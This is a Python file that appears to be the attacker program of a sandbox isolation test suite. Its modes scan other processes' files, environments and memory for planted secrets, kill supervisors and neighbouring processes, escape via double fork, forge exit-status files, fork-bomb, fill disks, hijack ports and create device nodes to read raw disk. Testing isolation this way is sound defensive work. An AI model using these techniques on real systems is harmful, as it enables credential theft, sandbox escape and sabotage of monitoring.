"""The attacker: ``python3 -c SOURCE MODE HINTS``. Standard library only; it imports nothing of Footlights.

HINTS is a JSON object with what an attacker could know or guess: paths, ports, pids, names. Every mode prints lines
``HOSTILE {...}`` with what it achieved, the last one with ``"done": true``. Everything is bounded, for it also runs
where nothing holds it back, and signals only what HINTS names or what started it.
"""

import ctypes
import json
import os
import re
import signal
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any

Hints = dict[str, Any]

SECRET = re.compile(rb"SECRET_[a-z]+_[0-9a-f]{16}")
"""What the judge planted looks like this; the pattern does not match itself."""
COMMON = [
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/var/run",
    "/home",
    "/root",
    "/var/lib",
    "/var/cache",
    "/srv",
    "/mnt",
]
MAX_FILES, MAX_DEPTH, SEARCH_S = 20000, 6, 8.0
CHUNK = b"\xa5" * (1 << 20)


def say(**found: Any) -> None:
    sys.stdout.write("HOSTILE " + json.dumps(found) + "\n")
    sys.stdout.flush()


def secrets_in(data: bytes) -> set[str]:
    return {match.decode() for match in SECRET.findall(data)}


def read(path: str) -> bytes:
    """Read the beginning of a regular file; empty where it cannot be."""
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    except (OSError, ValueError):
        return b""
    try:
        return os.read(descriptor, 1 << 16) if stat.S_ISREG(os.fstat(descriptor).st_mode) else b""
    except OSError:
        return b""
    finally:
        os.close(descriptor)


def pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def search(places: Iterable[str], budget: float) -> set[str]:
    """Look for secrets in all files below some places."""
    found: set[str] = set()
    waiting, seen = [(place, 0) for place in places], 0
    while waiting and seen < MAX_FILES and time.monotonic() < budget:
        place, depth = waiting.pop()
        found |= secrets_in(read(place))
        seen += 1
        if depth >= MAX_DEPTH:
            continue
        try:
            names = sorted(os.listdir(place))
        except (OSError, ValueError):
            continue
        waiting += [(os.path.join(place, name), depth + 1) for name in names[:500] if not os.path.islink(place)]
    return found


def read_files(hints: Hints) -> None:
    """Another session's files: by their paths, in the usual places, and through every process's root and cwd."""
    budget = time.monotonic() + SEARCH_S
    found = search(hints["paths"], budget)
    for pid in pids():
        below = [f"/proc/{pid}/root{path}" for path in hints["paths"]]
        found |= search(below, budget)
        for directory in (f"/proc/{pid}/cwd/.", f"/proc/{pid}/fd/."):
            try:
                names = os.listdir(directory)
            except OSError:
                continue
            for name in names[:200]:
                found |= secrets_in(read(os.path.join(directory, name)))
    found |= search([os.environ.get("HOME", "/"), *COMMON], budget)
    say(secrets=sorted(found))


def read_environment(hints: Hints) -> None:
    """Another session's environment, and its memory."""
    found: set[str] = set()
    for pid in pids():
        if pid != os.getpid():
            found |= secrets_in(read(f"/proc/{pid}/environ"))
    for pid in hints["pids"]:
        found |= memory_of(pid)
    say(secrets=sorted(found))


def memory_of(pid: int) -> set[str]:
    found: set[str] = set()
    try:
        with open(f"/proc/{pid}/maps") as maps:
            lines = maps.read().splitlines()
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError:
        return found
    for line in lines:
        if "[heap]" in line or "[stack]" in line:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            try:
                found |= secrets_in(os.pread(memory, min(last - first, 16 << 20), first))
            except OSError:
                continue
    os.close(memory)
    return found


def read_key(hints: Hints) -> None:
    """The agent's key: its file, by every way to it, and the agent's environment and memory."""
    found = secrets_in(read(hints["key"]))
    for pid in pids():
        found |= secrets_in(read(f"/proc/{pid}/root{hints['key']}"))
    for pid in hints["agent_pids"]:
        found |= secrets_in(read(f"/proc/{pid}/environ")) | memory_of(pid)
    say(secrets=sorted(found))


def kill_others(hints: Hints) -> None:
    """The agent and the neighbour: by their pids, and by their command lines."""
    targets = set(hints["pids"]) | set(hints["agent_pids"])
    for pid in pids():
        if hints["mark"].encode() in read(f"/proc/{pid}/cmdline").split(b"\0"):
            targets.add(pid)
    for pid in sorted(targets - {os.getpid()}):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            say(pid=pid, refused=error.strerror)
        else:
            say(pid=pid, sent=True)


def kill_supervisor(hints: Hints) -> None:
    """What started it and waits for it, such as its shim."""
    pid = os.getppid()
    if pid > 1 and pid not in hints["spared"]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            say(pid=pid, refused=error.strerror)


def escape(hints: Hints) -> None:
    """Its supervisor is killed, then a double fork into a session of its own, with an empty environment."""
    kill_supervisor(hints)
    sys.stdout.flush()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            text = "import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(90)"
            os.execve(sys.executable, [sys.executable, "-I", "-c", text, hints["token"]], {})
        os._exit(0)
    time.sleep(0.5)
    os._exit(0)


def forge_exit(hints: Hints) -> None:
    """An exit of its own, while it goes on: everywhere in its launch's directory."""
    forged = json.dumps({"exit_code": 0, "code": 0, "status": "exited", "state": "EXITED"})
    names = ["exit.json", "exit", "status", "shim.json", "journal", "journal.json", "plan.json", "result"]
    written = []
    for directory in {*hints["directories"], os.environ.get("HOME", "/"), os.getcwd()}:
        try:
            present = os.listdir(directory)
        except OSError:
            present = []
        for name in names + [name for name in present if name.endswith((".json", ".exit"))]:
            path = os.path.join(directory, name)
            try:
                with open(path, "w") as file:
                    file.write(forged)
            except OSError:
                continue
            written.append(path)
    say(written=sorted(set(written)))


def fill_disk(hints: Hints) -> None:
    """Every directory that can be written to, until it is full or too much was written."""
    limit, total = hints["bytes"], 0
    files: list[str] = []
    places = [
        *hints["directories"],
        os.environ.get("HOME", "/"),
        os.environ.get("TMPDIR", "/tmp"),
        os.getcwd(),
        *COMMON,
    ]
    for place in dict.fromkeys([*places, "/", "/dev", "/dev/mqueue", "/etc", "/opt", "/usr", "/var"]):
        for number in range(4):
            path = os.path.join(place, f"hostile-fill-{os.getpid()}-{number}")
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            except OSError:
                break
            files.append(path)
            try:
                while total < limit:
                    total += os.write(descriptor, CHUNK)
                    if total % (16 << 20) == 0:
                        say(bytes=total)
            except OSError:
                pass
            finally:
                os.close(descriptor)
            if total >= limit:
                break
    say(bytes=total)
    for path in files:
        os.unlink(path)


def fill_log(hints: Hints) -> None:
    """Its output, many times over."""
    line = "x" * 1000 + "\n"
    for _ in range(hints["bytes"] // len(line)):
        sys.stdout.write(line)
    sys.stdout.flush()


def fork_bomb(hints: Hints) -> None:
    """Processes without end: as many as the judge allows at most."""
    children: list[int] = []
    try:
        while len(children) < hints["tasks"]:
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        say(refused=error.strerror)
    say(tasks=len(children))
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)


def use_memory(hints: Hints) -> None:
    """Memory that is really touched, as much as the judge allows at most."""
    held = []
    for number in range(hints["bytes"] >> 20):
        held.append(bytearray(CHUNK))
        if number % 16 == 15:
            say(bytes=(number + 1) << 20)


def listen(hints: Hints) -> None:
    """A neighbour's port, on every address, to answer in its place."""
    bound = []
    for port in hints["ports"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for host in ("0.0.0.0", "127.0.0.1", *addresses()):
                listener = socket.socket(socket.AF_INET, kind)
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                try:
                    listener.bind((host, port))
                    if kind == socket.SOCK_STREAM:
                        listener.listen()
                except OSError:
                    listener.close()
                    continue
                bound.append([host, port, kind.name])
                threading.Thread(target=answer, args=(listener, hints["token"].encode()), daemon=True).start()
    say(bound=bound)


def answer(listener: socket.socket, text: bytes) -> None:
    while True:
        if listener.type == socket.SOCK_STREAM:
            connection, _ = listener.accept()
            connection.sendall(text)
            connection.close()
        else:
            _, where = listener.recvfrom(2048)
            listener.sendto(text, where)


def addresses() -> list[str]:
    """The addresses that this machine, or container, calls its own, and its gateways: from /proc/net."""
    found: list[str] = []
    for line in read("/proc/net/fib_trie").decode().splitlines():
        match = re.search(r"\|-- (\d+\.\d+\.\d+\.\d+)", line)
        if match and match[1] not in found and not match[1].startswith("0."):
            found.append(match[1])
    for line in read("/proc/net/route").decode().splitlines()[1:]:
        gateway = bytes.fromhex(line.split()[2])[::-1]
        if any(gateway):
            found.append(".".join(str(part) for part in gateway))
    return list(dict.fromkeys(found))


def reach_loopback(hints: Hints) -> None:
    """What listens on the node's loopback, by every name and address that might lead there, and abstract sockets."""
    hosts = [
        "127.0.0.1",
        "127.0.0.2",
        "localhost",
        "0.0.0.0",
        "::1",
        "host.docker.internal",
        "host.containers.internal",
    ]
    found: set[str] = set()
    for port in hints["ports"]:
        for host in [*hosts, "gateway.docker.internal", "10.0.2.2", "169.254.1.1", *addresses()]:
            found |= secrets_in(heard(tcp, host, port))
    for name in hints["abstract"]:
        found |= secrets_in(heard(unix, "\0" + name))
    places = [path for name in hints["sockets"] for path in [name, *(f"/proc/{pid}/root{name}" for pid in pids())]]
    say(secrets=sorted(found), reached=[path for path in places if heard(unix, path)])


def tcp(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=1.0)


def reach_neighbour(hints: Hints) -> None:
    """What another session listens on and does not publish: at every address that it says it has."""
    found: set[str] = set()
    for host in dict.fromkeys(["127.0.0.1", *hints["addresses"], *addresses()]):
        for port in hints["ports"]:
            found |= secrets_in(heard(tcp, host, port))
    say(secrets=sorted(found))


def unix(path: str) -> socket.socket:
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(1.0)
    try:
        client.connect(path)
    except OSError:
        client.close()
        raise
    return client


def heard(connect: Callable[..., socket.socket], *where: Any) -> bytes:
    """Return what a connection answers to an HTTP request; empty where there is none."""
    try:
        with connect(*where) as connection:
            connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return connection.recv(4096)
    except (OSError, ValueError):
        return b""


def read_device(hints: Hints) -> None:
    """The node's disk, memory and kernel log, by device nodes that it makes."""
    read_from = []
    for number, (kind, major, minor) in enumerate(hints["devices"]):
        for place in (os.environ.get("HOME", "/tmp"), "/tmp", "/dev/shm", "/dev", os.getcwd()):
            path = os.path.join(place, f"hostile-node-{os.getpid()}-{number}")
            try:
                os.mknod(path, (stat.S_IFBLK if kind == "b" else stat.S_IFCHR) | 0o600, os.makedev(major, minor))
            except OSError:
                continue
            try:
                descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                if os.read(descriptor, 8192):
                    read_from.append([kind, major, minor])
                os.close(descriptor)
            except OSError:
                pass
            os.unlink(path)
    say(devices=read_from)


def gain_rights(hints: Hints) -> None:
    """What it may do beyond an ordinary user: capabilities, mounts, another user's id, the host's name, the clock."""
    status = dict(line.split(":\t", 1) for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
    library = ctypes.CDLL(None, use_errno=True)
    gained: list[str] = []
    if int(status["CapEff"], 16) or int(status["CapPrm"], 16) or int(status["CapBnd"], 16):
        gained.append(f"capabilities {status['CapEff']}, bounding {status['CapBnd']}")
    if status["NoNewPrivs"].strip() != "1":
        gained.append("setuid programs give rights")
    if status["Seccomp"].strip() == "0":
        gained.append("every system call")
    try:
        outside = read("/proc/self/uid_map").split()[1]
    except IndexError:
        outside = b"0"
    if os.geteuid() == 0 and outside == b"0":
        gained.append("root of the node")
    if library.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        library.umount2(b"/tmp", 2)
        gained.append("mounts")
    say(gained=gained)


def neighbour(hints: Hints) -> None:
    """No attacker but the one that is attacked: secrets in its files, environment and memory, and on a port."""
    secret = os.environ["NEIGHBOUR_SECRET"]
    places = [os.environ.get("HOME", "/"), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", os.getcwd()]
    for place in dict.fromkeys(places):
        try:
            with open(os.path.join(place, hints["file"]), "w") as file:
                file.write(secret)
        except OSError:
            continue
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        server.bind(("0.0.0.0", hints["ports"][0]))
    except OSError:
        return  # a launcher may allow no port beside the launch's own
    server.listen()
    threading.Thread(target=answer, args=(server, secret.encode()), daemon=True).start()
    say(addresses=addresses())


MODES: dict[str, Callable[[Hints], None]] = {
    function.__name__.replace("_", "-"): function
    for function in (
        *(read_files, read_environment, read_key, kill_others, kill_supervisor, escape, forge_exit, fill_disk),
        *(
            fill_log,
            fork_bomb,
            use_memory,
            listen,
            reach_loopback,
            reach_neighbour,
            read_device,
            gain_rights,
            neighbour,
        ),
    )
}


def main() -> None:
    mode, hints = sys.argv[1], json.loads(sys.argv[2])
    say(mode=mode, user=os.geteuid())
    time.sleep(0.2)  # this line is read even if what holds the output is killed next
    try:
        MODES[mode](hints)
    except Exception as error:
        say(error=f"{type(error).__name__}: {error}")
    say(done=True)
    deadline = time.monotonic() + hints.get("lasts_s", 60)
    while time.monotonic() < deadline:
        time.sleep(0.05)
    sys.exit(hints.get("code", 0))


if __name__ == "__main__":
    main()
